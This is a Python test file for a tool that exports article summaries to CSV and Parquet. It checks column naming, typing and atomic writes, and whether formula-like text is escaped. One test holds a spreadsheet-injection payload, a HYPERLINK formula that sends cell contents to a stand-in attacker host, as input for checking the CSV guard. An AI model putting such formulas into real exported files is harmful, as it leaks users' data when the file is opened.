"""A table holds what the journal does, in cells that harm nobody."""

from __future__ import annotations

import csv
import json
from collections.abc import Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from making import PUBLISHED, make_summary

from summarise.errors import InputError
from summarise.rows.columns import COLUMNS, columns, refuse_clash
from summarise.rows.exports import guarded, unguarded, write_csv, write_parquet
from summarise.rows.fields import Entry
from summarise.rows.journal import record_line

SUMMARY = make_summary()
ANY = st.text(st.characters())
WHOLE = st.text(st.characters(exclude_categories=["Cs"]))


def record(id_: str | None = "a1", row: int = 1, **kept: Any) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(
        record_line(Entry(row, "", id_, "ab" * 32, None, kept), SUMMARY)
    )
    return made


def as_csv(
    path: Path, asked: Sequence[str], *records: dict[str, Any], keep: Sequence[str] = ()
) -> list[dict[str, str]]:
    write_csv(path, columns(asked, keep, whole=False), lambda: records)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def as_parquet(
    path: Path, asked: Sequence[str], *records: dict[str, Any], keep: Sequence[str] = ()
) -> Any:
    pytest.importorskip("pyarrow")
    from pyarrow.parquet import read_table

    write_parquet(path, columns(asked, keep, whole=True), lambda: records)
    return read_table(path)


# Columns.


def test_the_usual_columns_are_for_people_and_for_programs() -> None:
    people = [column.name for column in columns([], ["n"], whole=False)]
    assert people[:2] == ["id", "n"]
    assert "summary" not in people
    assert {"headline_fr", "abstract_en", "findings", "publishable", "model", "cost"} <= set(people)
    programs = [column.name for column in columns([], [], whole=True)]
    assert programs == list(COLUMNS)


def test_columns_can_be_chosen_and_named() -> None:
    chosen = columns(["n=N°", "headline_fr", "id=id=clef"], ["n"], whole=False)
    assert [column.name for column in chosen] == ["N°", "headline_fr", "id=clef"]


@pytest.mark.parametrize(
    ("asked", "keep", "words"),
    [
        (["headline"], [], "there is no such column. There are: id, row"),
        (["id", "sha256=id"], [], "two columns are called 'id'"),
        ([], ["title"], "a column of the output has this name already"),
    ],
)
def test_columns_that_cannot_be_are_refused(asked: list[str], keep: list[str], words: str) -> None:
    with pytest.raises(InputError, match=words):
        columns(asked, keep, whole=False)


def test_a_field_that_would_hide_one_of_the_record_is_refused() -> None:
    refuse_clash(["n", "id"])
    with pytest.raises(InputError, match="--keep-field summary"):
        refuse_clash(["n", "summary"])


# CSV.


def test_a_table_holds_the_summary(tmp_path: Path) -> None:
    (row,) = as_csv(tmp_path / "a.csv", [], record(n=1.5, liste=["é"]), keep=["n", "liste"])
    assert row["id"] == "a1"
    assert row["headline_fr"] == SUMMARY.headline.fr
    assert row["abstract_en"] == " ".join(claim.en for claim in SUMMARY.abstract)
    assert row["key_points_fr"] == "\n".join(claim.fr for claim in SUMMARY.key_points)
    assert row["published"] == PUBLISHED.isoformat()
    assert row["publishable"] == str(SUMMARY.verification.publishable).lower()
    assert int(row["findings"]) == len(SUMMARY.findings)
    assert (row["model"], row["prompt"], row["cost"]) == (
        "openai/gpt-5-mini",
        "summary@1.0.0",
        "0.0125",
    )
    assert (row["n"], row["liste"]) == ("1.5", '["é"]')


def test_a_cost_that_is_not_known_is_an_empty_cell(tmp_path: Path) -> None:
    unpriced = record()
    unpriced["summary"]["provenance"]["attempts"][0]["cost"] = None
    (row,) = as_csv(tmp_path / "a.csv", ["cost", "prompt_tokens"], unpriced)
    assert row == {"cost": "", "prompt_tokens": "3210"}


@given(text=ANY)
def test_a_guarded_text_is_no_formula_and_can_be_had_again(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"} or not text


@given(id_=WHOLE.filter(bool), kept=WHOLE)
def test_any_text_survives_csv(
    tmp_path_factory: pytest.TempPathFactory, id_: str, kept: str
) -> None:
    path = tmp_path_factory.getbasetemp() / "any.csv"
    (row,) = as_csv(path, ["id", "k"], record(id_, k=kept), keep=["k"])
    assert (unguarded(row["id"]), unguarded(row["k"])) == (id_, kept)


def test_a_stranger_s_formula_is_not_run(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    (row,) = as_csv(
        tmp_path / "a.csv", ["id", "k", "n"], record(evil, k=evil, n=-2), keep=["k", "n"]
    )
    assert row == {"id": f"'{evil}", "k": f"'{evil}", "n": "-2"}


def test_half_a_character_is_written_so_that_it_can_be_seen(tmp_path: Path) -> None:
    (row,) = as_csv(tmp_path / "a.csv", ["id"], record("a\udce9"))
    assert row["id"] == "a\\udce9"


def test_a_table_that_cannot_be_made_leaves_the_one_that_was_there(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("before")
    broken = record() | {"summary": {}}
    with pytest.raises(ValueError, match="Summary"):
        as_csv(path, [], record(), broken)
    assert path.read_text() == "before"
    assert list(tmp_path.iterdir()) == [path]


# Parquet.


def test_parquet_has_types_and_the_whole_summary(tmp_path: Path) -> None:
    rows = (record("a", 1, n=1, x=1, m="t", b=True), record("b", 2, n=2, x=1.5, m=3, b=None))
    table = as_parquet(tmp_path / "a.parquet", [], *rows, keep=["n", "x", "m", "b"])
    types = {field.name: str(field.type) for field in table.schema}
    assert types["row"] == types["n"] == "int64"
    assert types["x"] == types["cost"] == "double"
    assert types["m"] == types["summary"] == "string"
    assert types["b"] == types["publishable"] == "bool"
    assert (types["published"], types["created"]) == ("date32[day]", "timestamp[us, tz=UTC]")
    one, two = table.to_pylist()
    assert one["published"] == PUBLISHED == date(2026, 3, 4)
    assert one["created"] == datetime(2026, 3, 4, 9, 30, tzinfo=UTC)
    assert (one["m"], two["m"], two["b"], two["x"]) == ('"t"', "3", None, 1.5)
    assert type(SUMMARY).model_validate_json(one["summary"]) == SUMMARY


@given(id_=WHOLE, kept=WHOLE)
def test_any_text_survives_parquet(
    tmp_path_factory: pytest.TempPathFactory, id_: str, kept: str
) -> None:
    path = tmp_path_factory.getbasetemp() / "any.parquet"
    (row,) = as_parquet(path, ["id", "k"], record(id_, k=kept), keep=["k"]).to_pylist()
    assert row == {"id": id_, "k": kept}


def test_what_a_column_cannot_hold_is_kept_as_json(tmp_path: Path) -> None:
    rows = (record(n=2**70, h="a\udce9"), record(n=1, h=""))
    table = as_parquet(tmp_path / "a.parquet", ["n", "h"], *rows, keep=["n", "h"])
    assert table.to_pylist() == [{"n": str(2**70), "h": "a\\udce9"}, {"n": "1", "h": ""}]


def test_a_night_without_articles_is_a_table_without_rows(tmp_path: Path) -> None:
    assert as_csv(tmp_path / "a.csv", []) == []
    table = as_parquet(tmp_path / "a.parquet", [], keep=["n"])
    assert (table.num_rows, table.column_names) == (0, ["id", "n", *list(COLUMNS)[1:]])
